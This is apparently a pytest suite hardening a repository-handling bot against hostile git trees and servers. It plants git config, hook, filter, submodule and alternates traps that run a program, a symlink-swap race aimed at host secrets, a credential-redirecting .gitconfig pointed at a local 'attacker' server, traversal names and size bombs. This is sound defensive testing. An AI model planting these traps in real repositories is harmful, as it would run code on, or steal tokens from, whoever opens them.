"""What a work tree, a repository or a git server may try against the host that handles it."""

import asyncio
import json
import os
import shutil
import subprocess
import sys
import threading
import zlib
from collections.abc import Iterator
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from dulwich.objects import Blob, Tree
from dulwich.repo import Repo

from bot.domain.ids import CommitSha, RepoPath, TreeSha
from bot.errors import ForModel, PullwrightError, RepositoryFault, RetryLater, TokenRefused
from bot.repos import walk
from bot.repos.contract import FileMode, Remote, Snapshot, TreeChange, View, Written
from bot.sandbox.contract import Command, FileKind, FileWrite, Workspace
from bot.verify.gate.check import check_change
from bot.verify.gate.contract import ChangedFile
from tests.hostile.cage import Backend
from tests.hostile.points import point
from tests.repos.conftest import KEY, NAME, GitWorld

NEEDS_GIT = pytest.mark.skipif(shutil.which("git") is None, reason="the twin needs git on the host")

PLANT = """
import os, sys
program = sys.argv[1]
hooks = ("pre-commit", "commit-msg", "post-commit", "post-index-change", "pre-push", "post-checkout", "reference-transaction",
         "prepare-commit-msg", "post-rewrite", "pre-auto-gc", "fsmonitor-watchman")
config = f'''[core]
    repositoryformatversion = 0
    fsmonitor = {program}
    sshCommand = {program}
    pager = {program}
    editor = {program}
    gitProxy = {program}
    hooksPath = {{hooks}}
[filter "evil"]
    clean = {program}
    smudge = {program}
    process = {program}
    required = true
[diff "evil"]
    textconv = {program}
    command = {program}
[diff]
    external = {program}
[gpg]
    program = {program}
[commit]
    gpgSign = true
[credential]
    helper = {program}
[url "ext::{program} "]
    insteadOf = http://
[include]
    path = {program}.config
'''
def plant(root):
    git = os.path.join(root, ".git")
    for folder in ("hooks", "objects/info", "objects/pack", "refs/heads", "info"):
        os.makedirs(os.path.join(git, folder), exist_ok=True)
    def put(path, text, mode=0o644):
        with open(os.path.join(git, path), "w") as sink: sink.write(text)
        os.chmod(os.path.join(git, path), mode)
    put("HEAD", "ref: refs/heads/main\\n")
    put("config", config.replace("{hooks}", os.path.abspath(os.path.join(git, "hooks"))))
    put("objects/info/alternates", "/etc\\n" + program + "\\n")
    put("info/attributes", "* filter=evil diff=evil\\n")
    for hook in hooks: put("hooks/" + hook, f"#!/bin/sh\\n{program} {hook}\\n", 0o755)
plant(".")
os.makedirs("nested", exist_ok=True); plant("nested")
open("nested/file", "w").write("x\\n")
open(".gitattributes", "w").write("* filter=evil diff=evil\\n")
open(".gitmodules", "w").write('[submodule "nested"]\\n\\tpath = nested\\n\\turl = ext::' + program + '\\n\\tupdate = !' + program + '\\n')
open(".lfsconfig", "w").write('[lfs]\\n\\turl = http://127.0.0.1:1/\\n')
open("new.py", "w").write("print(1)\\n")
"""


@pytest.fixture
async def work(backend: Backend, world: GitWorld) -> Workspace:
    base = await world.fetch()
    return await backend.sandbox.open_workspace(await world.repos.materialise(KEY, base.tree))


async def taken(world: GitWorld, work: Workspace) -> Snapshot:
    """Both ways, where there are two: what was written alone is never other than the whole."""
    base = await world.fetch()
    view = View(work.view_command, work.view_root)
    whole = await world.repos.snapshot(KEY, base.tree, view)
    written = Written(work.written_layers, base.tree)
    assert await world.repos.snapshot(KEY, base.tree, replace(view, written=written)) == whole
    return whole


def canary(folder: Path) -> tuple[Path, Path]:
    """A program of the host that leaves a trace, and the trace."""
    program, trace = folder / "fire.sh", folder / "fired"
    program.write_text(f"#!/bin/sh\necho $0 $@ >> {trace}\nexec cat\n")
    program.chmod(0o755)
    return program, trace


MARK = """
import os
done = 0
os.chmod("pkg", 0o755)
for path in ("pkg", "app.py", "."):
    for name in ("opaque", "whiteout", "redirect", "metacopy", "origin", "impure", "nlink", "overlay.opaque"):
        for value in (b"y", b"x", b"/", b""):
            try:
                os.setxattr(path, "user.overlay." + name, value)
                done += 1
            except OSError:
                pass
print("set", done)
for path, mode in (("gone", 0o020000), ("app.py.gone", 0o020644)):
    try:
        os.mknod(path, mode, 0)
        print("made a whiteout")
    except OSError:
        pass
open("pkg/new.py", "w").write("x = 1\\n")
"""


@point(52)
async def test_marks_of_the_overlay_hide_nothing(backend: Backend, world: GitWorld, work: Workspace) -> None:
    ran = await work.run(Command(f"{backend.python} -c '{MARK}'"))
    assert ran.ok, ran.output
    if work.written_layers:  # in a copy a device is a device: left out
        assert b"made a whiteout" not in ran.output
    snapshot = await taken(world, work)
    assert [change.path for change in snapshot.changes] == ["pkg/new.py"], ran.output


@point(52, 55, 62)
@NEEDS_GIT
async def test_a_tree_full_of_git_traps_goes_through_without_one_going_off(
    backend: Backend,
    world: GitWorld,
    work: Workspace,
    tmp_path: Path,
) -> None:
    program, trace = canary(tmp_path)
    planted = await work.run(Command(f"{backend.python} -I -S - {program}", stdin=PLANT.encode()))
    assert planted.ok, planted
    base = await world.fetch()
    snapshot = await taken(world, work)
    await world.repos.diff(KEY, base.tree, snapshot.tree)
    commit = await world.repos.commit(KEY, snapshot.tree, (base.commit,), "Work\n", 1_790_000_000)
    await world.repos.push(KEY, world.remote, "refs/heads/agent/1-x", commit, None)
    template = await world.repos.materialise(KEY, snapshot.tree)
    again = await backend.sandbox.open_workspace(template)
    assert (await again.run(Command("cat new.py"))).output == b"print(1)\n"
    await again.close()
    await work.close()
    assert not trace.exists()
    changed = {change.path for change in snapshot.changes}
    assert "new.py" in changed
    assert not [path for path in changed if ".git/" in f"{path}/"]
    assert world.hub.seed.file(NAME, "agent/1-x", "new.py") == b"print(1)\n"
    # The twin: the same traps do go off for whoever opens such a tree with git.
    twin = tmp_path / "twin"
    twin.mkdir()
    subprocess.run(
        [sys.executable, "-I", "-S", "-", str(program)], input=PLANT.encode(), cwd=twin, check=True
    )
    subprocess.run(["git", "status"], cwd=twin, capture_output=True, check=False)
    assert trace.exists()


@point(53)
async def test_links_that_a_daemon_swapped_lead_nowhere(
    backend: Backend,
    world: GitWorld,
    work: Workspace,
    tmp_path: Path,
) -> None:
    secret = tmp_path / "secret"
    secret.mkdir()
    (secret / "file").write_text("secret of the host")
    swap = f"""
import os
os.makedirs("real", exist_ok=True); open("real/file", "w").write("inside\\n")
if os.fork(): os._exit(0)
os.setsid()
while True:
    try:
        os.rename("real", "away"); os.symlink({str(secret)!r}, "real"); os.unlink("real"); os.rename("away", "real")
    except OSError: pass
"""
    assert (await work.run(Command(f"{backend.python} -I -S -", stdin=swap.encode()))).ok
    for _ in range(5):
        read = await work.read_file("real/file")
        assert read.content in (None, b"inside\n")
        await work.write_files((FileWrite("note", b"x"),))
    snapshot = await taken(world, work)
    await work.close()
    assert (secret / "file").read_text() == "secret of the host"
    blobs = await world.repos.read_blobs(KEY, tuple(c.new_blob for c in snapshot.changes if c.new_blob))
    assert not any(b"secret of the host" in blob for blob in blobs.values())


@point(53)
async def test_the_walker_withstands_a_swap_while_it_walks(world: GitWorld, tmp_path: Path) -> None:
    """It is never started beside a living task; it holds all the same."""
    base = await world.fetch()
    view = await world.open_work(base.tree)
    (tmp_path / "outside").mkdir()
    for number in range(20):
        (tmp_path / "outside" / f"f{number}").write_text("secret of the host")
    inner = world.work / "d"
    inner.mkdir()
    for number in range(20):
        (inner / f"f{number}").write_text("inside")
    stop = threading.Event()

    def swap() -> None:
        while not stop.is_set():
            inner.rename(world.work / "away")
            inner.symlink_to(tmp_path / "outside")
            inner.unlink()
            (world.work / "away").rename(inner)

    thread = threading.Thread(target=swap)
    thread.start()
    whole = 0
    try:
        for _ in range(8):
            try:
                snapshot = await world.repos.snapshot(KEY, base.tree, view)
            except RepositoryFault:
                continue  # what moves is no tree: an error, never half of one
            whole += 1
            blobs = await world.repos.read_blobs(
                KEY, tuple(c.new_blob for c in snapshot.changes if c.new_blob)
            )
            assert not any(b"secret of" in blob for blob in blobs.values())
    finally:
        stop.set()
        thread.join()
    assert (await world.repos.snapshot(KEY, base.tree, view)).changes  # the twin: at rest it is read
    assert whole >= 0


@point(54)
async def test_special_files_are_left_out_and_hang_nobody(
    backend: Backend,
    world: GitWorld,
    work: Workspace,
) -> None:
    program = "import os, socket; os.mkfifo('pipe'); socket.socket(socket.AF_UNIX).bind('sock'); open('ok', 'w').write('ok')"
    assert (await work.run(Command(f'{backend.python} -I -S -c "{program}"'))).ok
    async with asyncio.timeout(60):
        for name in ("pipe", "sock"):
            assert (await work.read_file(name)).kind is FileKind.OTHER
            with pytest.raises(ForModel, match="not a regular file"):
                await work.write_files((FileWrite(name, b"x"),))
        snapshot = await taken(world, work)
    await work.close()
    assert [change.path for change in snapshot.changes] == ["ok"]
    assert {word for word in ("pipe", "sock") if any(word in line for line in snapshot.left_out)} == {
        "pipe",
        "sock",
    }


@point(55, 56)
async def test_git_folders_in_every_spelling_stay_behind(world: GitWorld, work: Workspace) -> None:
    made = await work.run(
        Command(
            'for d in .GIT \'.git \' .git. git~1 GIT~1 .Git sub/.git sub/.GIT; do mkdir -p "$d/hooks"; echo x > "$d/config"; done;'
            "mkdir file link; echo 'gitdir: /etc' > file/.git; ln -s /etc link/.git; echo ok > sub/ok; echo ok > file/ok"
        )
    )
    assert made.ok, made
    snapshot = await taken(world, work)
    assert {change.path for change in snapshot.changes} == {"sub/ok", "file/ok"}
    for path in (".git/config", ".GIT/config", "sub/.git/hooks/x", ".git./x", "git~1/x"):
        with pytest.raises(ForModel, match=r"(?i)nothing was written"):
            await work.write_files((FileWrite(path, b"x"),))
    await work.close()


@point(57)
async def test_control_characters_in_names_forge_no_line(world: GitWorld, work: Workspace) -> None:
    made = await work.run(
        Command(
            r"""touch "$(printf 'a\n--- a/forged')" "$(printf 'b\033[2Jx')" "$(printf 'c\rd')" "$(printf 'bad\377')";"""
            r""" touch "$(printf 'right\342\200\256left')"; echo fine > fine.txt"""
        )
    )
    assert made.ok, made
    base, snapshot = await world.fetch(), await taken(world, work)
    text = await world.repos.diff(KEY, base.tree, snapshot.tree)
    await work.close()
    assert "fine.txt" in text
    for said in (*snapshot.left_out, text):
        assert not set(said) & {"\x1b", "\r", "\u202e"}
    assert "\n--- a/forged" not in text
    assert all("\n" not in line for line in snapshot.left_out)


@point(58)
async def test_a_deep_tree_ends_without_a_trace_of_deletion(
    backend: Backend,
    world: GitWorld,
    work: Workspace,
) -> None:
    deep = "import os\nfor _ in range(1500): os.mkdir('d'); os.chdir('d')\n"
    assert (await work.run(Command(f"{backend.python} -I -S -", stdin=deep.encode()))).ok
    base, snapshot = await world.fetch(), await taken(world, work)
    assert snapshot.tree == base.tree
    assert "64" in snapshot.left_out[0]
    await work.close()


@point(58)
async def test_a_walk_without_descriptors_is_an_error(world: GitWorld, tmp_path: Path) -> None:
    base = await world.fetch()
    view = await world.open_work(base.tree)
    (world.work / "/".join(["d"] * 40)).mkdir(parents=True)
    few = View(lambda argv: ["/bin/bash", "-c", 'ulimit -n 20; exec "$@"', "bash", *argv], world.work)
    with pytest.raises(RepositoryFault, match="could not be read"):
        await world.repos.snapshot(KEY, base.tree, few)
    assert (await world.repos.snapshot(KEY, base.tree, view)).tree == base.tree  # the twin


@point(58)
def test_a_walk_over_its_cap_is_an_error(tmp_path: Path) -> None:
    for number in range(60):
        (tmp_path / str(number)).touch()

    def last(files: int) -> dict[str, str]:
        caps = {"depth": 9, "files": files, "file_bytes": 9, "bytes": 9}
        asked = json.dumps({"base": {}, "caps": caps}) + "\n" + "1\n" * 100
        argv = [sys.executable, "-I", "-S", walk.__file__, str(tmp_path)]
        said = subprocess.run(argv, input=asked, capture_output=True, text=True, check=True).stdout
        answer: dict[str, str] = json.loads(said.splitlines()[-1])
        return answer

    assert "more than 50 files" in last(50)["why"]
    assert last(100) == {"t": "end"}  # the twin


@point(59)
async def test_a_blob_bomb_is_contained(world: GitWorld) -> None:
    """52 MiB of nought are 52 KB on the wire. Over the bound on one file it is left out, and never deleted."""
    world.hub.seed.commit(NAME, {"bomb.bin": bytes(52 << 20)}, "Bomb")
    base = await world.fetch()
    view = await world.open_work(base.tree)
    assert not (world.work / "bomb.bin").exists()
    assert (world.work / "app.py").exists()  # the twin
    (world.work / "app.py").unlink()
    snapshot = await world.repos.snapshot(KEY, base.tree, view)
    assert [change.path for change in snapshot.changes] == ["app.py"]


@point(59)
async def test_a_pack_that_lies_about_its_size_ends_in_an_error(world: GitWorld, tmp_path: Path) -> None:
    await world.fetch()
    cache = next(world.repos.state_dir.rglob("cache.git"))
    liar = b"blob 5\0" + bytes(120 << 20)
    sha = "ab" + "0" * 38
    (cache / "objects" / "ab").mkdir(exist_ok=True)
    (cache / "objects" / "ab" / sha[2:]).write_bytes(zlib.compress(liar))
    with Repo(str(cache)) as repo:
        tree = Tree()
        tree.add(b"x", 0o100644, sha.encode())
        repo.object_store.add_object(tree)
    try:
        folder = await world.repos.materialise(KEY, TreeSha(tree.id.decode()))
    except PullwrightError:
        return  # any named end will do; a hanging or dying worker would not
    assert not (folder / "x").exists()


@point(60)
@pytest.mark.parametrize(
    "name",
    [
        b"..",
        b".",
        b".git",
        b".GIT",
        b"git~1",
        b"../b",
        b"a/../../b",
        b"/etc",
        b"a\nb",
        b".g\xe2\x80\x8cit",
        b"\xff",
    ],
)
@pytest.mark.parametrize("is_beside", [False, True])
async def test_a_hostile_tree_is_not_laid_out(world: GitWorld, name: bytes, is_beside: bool) -> None:
    base = await world.fetch()
    if is_beside:  # then links are made from it
        await world.repos.materialise(KEY, base.tree)
    cache = next(world.repos.state_dir.rglob("cache.git"))
    blob = Blob.from_string(b"x")
    raw = b"100644 " + name + b"\0" + bytes.fromhex(blob.id.decode())
    with Repo(str(cache)) as repo:
        repo.object_store.add_object(blob)
        tree = Tree.from_raw_string(Tree.type_num, raw)
        repo.object_store.add_object(tree)
    before = {path for path in world.repos.state_dir.parent.rglob("*") if "cache.git" not in path.parts}
    await world.repos.materialise(KEY, TreeSha(tree.id.decode()))  # goes on without it
    after = {path for path in world.repos.state_dir.parent.rglob("*") if "cache.git" not in path.parts}
    ours = ".used"  # marks of when a tree was last in use
    left = {path for path in after - before if path.is_file() and path.suffix != ours}
    assert left == set()


@point(60)
@pytest.mark.parametrize("is_beside", [False, True])
@pytest.mark.parametrize("is_a_folder", [False, True])
async def test_a_file_below_a_link_is_not_laid_out(
    world: GitWorld, tmp_path: Path, is_beside: bool, is_a_folder: bool
) -> None:
    base = await world.fetch()
    if is_beside:  # then links are made from it
        await world.repos.materialise(KEY, base.tree)
    cache = next(world.repos.state_dir.rglob("cache.git"))
    target, inner = Blob.from_string(os.fsencode(tmp_path)), Blob.from_string(b"x")
    with Repo(str(cache)) as repo:
        below = Tree()
        below.add(b"planted", 0o100644, inner.id)
        second = (b"40000 a", below.id) if is_a_folder else (b"100644 a/planted", inner.id)
        raw = b"".join(
            item + b"\0" + bytes.fromhex(sha.decode()) for item, sha in ((b"120000 a", target.id), second)
        )
        tree = Tree.from_raw_string(Tree.type_num, raw)
        for one in (target, inner, below, tree):
            repo.object_store.add_object(one)
    try:
        folder = await world.repos.materialise(KEY, TreeSha(tree.id.decode()))
    except PullwrightError:
        folder = tmp_path / "none"
    assert not (folder / "a" / "planted").exists() or not (folder / "a").is_symlink()
    assert not (tmp_path / "planted").exists()


class _Recorder(BaseHTTPRequestHandler):
    server: "_Server"

    def do_GET(self) -> None:
        self.server.seen.append(dict(self.headers))
        if self.server.location:
            self.send_response(307)
            self.send_header("Location", self.server.location + self.path)
        else:
            self.send_response(404)
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_POST = do_GET

    def log_message(self, format: str, *args: object) -> None:
        """Nothing on stderr."""


class _Server(ThreadingHTTPServer):
    def __init__(self, location: str = "") -> None:
        super().__init__(("127.0.0.1", 0), _Recorder)
        self.location, self.seen = location, list[dict[str, str]]()
        threading.Thread(target=self.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


@pytest.fixture
def attacker() -> Iterator[_Server]:
    server = _Server()
    yield server
    server.shutdown()
    server.server_close()


@point(61)
async def test_lfs_pointers_stay_pointers(world: GitWorld, attacker: _Server) -> None:
    pointer = b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"a" * 64 + b"\nsize 5\n"
    files = {
        ".lfsconfig": f"[lfs]\n\turl = {attacker.url}/\n".encode(),
        ".gitattributes": b"*.bin filter=lfs diff=lfs merge=lfs -text\n",
        "data.bin": pointer,
    }
    world.hub.seed.commit(NAME, files, "LFS")
    base = await world.fetch()
    folder = await world.repos.materialise(KEY, base.tree)
    assert (folder / "data.bin").read_bytes() == pointer
    view = await world.open_work(base.tree)
    assert (await world.repos.snapshot(KEY, base.tree, view)).tree == base.tree
    assert attacker.seen == []


@point(63)
@NEEDS_GIT
async def test_the_users_git_configuration_is_not_read(
    world: GitWorld,
    attacker: _Server,
    tmp_path: Path,
) -> None:
    home = tmp_path / "home"
    home.mkdir()
    program, trace = canary(tmp_path)
    origin = world.remote.url.rsplit("/", 2)[0]
    (home / ".gitconfig").write_text(
        f'[url "{attacker.url}/"]\n\tinsteadOf = {origin}/\n[credential]\n\thelper = {program}\n[core]\n\tfsmonitor = {program}\n'
    )
    before = {name: os.environ.get(name) for name in ("HOME", "XDG_CONFIG_HOME")}
    os.environ["HOME"] = str(home)
    try:
        base = await world.fetch()
        await world.repos.materialise(KEY, base.tree)
    finally:
        for name, value in before.items():
            if value is not None:
                os.environ[name] = value
    assert attacker.seen == []
    assert not trace.exists()
    # The twin: git itself follows that file.
    git = ["git", "ls-remote", world.remote.url]
    env = {"HOME": str(home), "PATH": "/usr/bin:/bin", "GIT_TERMINAL_PROMPT": "0"}
    subprocess.run(git, env=env, capture_output=True, check=False, timeout=30)
    assert attacker.seen


@point(64)
async def test_a_redirect_does_not_carry_the_token(world: GitWorld, attacker: _Server) -> None:
    front = _Server(attacker.url)
    try:
        with pytest.raises((RepositoryFault, RetryLater, TokenRefused)):
            await world.repos.fetch(KEY, Remote(f"{front.url}/o/r.git", "ghs_secret"), "refs/heads/main")
    finally:
        front.shutdown()
        front.server_close()
    assert front.seen
    assert not any("authorization" in {name.lower() for name in headers} for headers in attacker.seen)


@point(64)
async def test_the_server_that_is_asked_does_get_the_token(world: GitWorld) -> None:
    """The twin: the fetch of the fixture needs it."""
    assert (await world.fetch()).tree
    with pytest.raises(RepositoryFault):
        await world.repos.fetch(KEY, Remote(world.remote.url, "wrong"), "refs/heads/main")


@point(10)
async def test_the_token_is_in_no_file_and_on_no_command_line(world: GitWorld) -> None:
    seen: list[bytes] = []
    stop = threading.Event()

    def look() -> None:
        while not stop.is_set():
            for entry in Path("/proc").iterdir():
                if entry.name.isdigit():
                    for name in ("cmdline", "environ"):
                        try:
                            seen.append((entry / name).read_bytes())
                        except OSError:
                            continue

    thread = threading.Thread(target=look)
    thread.start()
    try:
        base = await world.fetch()
        sha = await world.repos.store_blob(KEY, b"fixed\n")
        fix = TreeChange(RepoPath("app.py"), None, None, FileMode.REGULAR, sha)
        tree = await world.repos.derive(KEY, base.tree, (fix,))
        commit: CommitSha = await world.repos.commit(KEY, tree, (base.commit,), "Fix\n", 1_790_000_000)
        await world.repos.push(KEY, world.remote, "refs/heads/x", commit, None)
    finally:
        stop.set()
        thread.join()
    token = world.remote.token.encode()
    assert any(b"bot.repos.zygote" in text for text in seen)  # the twin: the children were seen
    assert not any(token in text for text in seen)
    files = [path for path in world.repos.state_dir.rglob("*") if path.is_file()]
    assert files
    assert not any(token in path.read_bytes() for path in files)


@point(65)
def test_a_workflow_file_needs_more_than_a_patch() -> None:
    def changed(path: str) -> ChangedFile:
        change = TreeChange(RepoPath(path), FileMode.REGULAR, "a", FileMode.REGULAR, "b")
        return ChangedFile(change, b"a: 1\n", b"a: 2\n")

    for path in (".github/workflows/ci.yml", ".github/actions/x/action.yml", ".github/CODEOWNERS"):
        assert check_change((changed(path),)), path
    assert check_change((changed("docs/workflows.yml"),)) == ()  # the twin
